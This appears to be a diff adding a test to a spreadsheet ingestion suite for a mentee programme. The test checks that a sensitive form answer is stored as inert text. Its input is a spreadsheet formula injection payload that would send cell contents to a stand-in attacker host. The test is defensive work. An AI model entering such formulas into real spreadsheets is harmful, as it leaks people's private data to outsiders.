@@ -34,6 +34,14 @@ describe('ingestion of a form response', () => {
     ]);
   });
 
+  it('stores a hostile sensitive answer as inert text in the protected sheet', () => {
+    const { ws } = menteeProgramme();
+    ws.submitFormResponse('Mentee intake', { ...AMINA, 'Is your residence permit in order?': '=IMPORTXML("http://evil.example/?q="&A1,"//a")' });
+    const sheet = ws.sheet('Sensitive details');
+    expect(sheet.getRange(2, 4).getFormulas()).toEqual([['']]);
+    expect(sheet.getRange(2, 4).getValue()).toBe('=IMPORTXML("http://evil.example/?q="&A1,"//a")');
+  });
+
   it('keeps the sensitive sheet in step when a response is edited: a changed answer is updated, a withdrawn one emptied', () => {
     const { ws } = menteeProgramme();
     const { row } = ws.submitFormResponse('Mentee intake', AMINA);
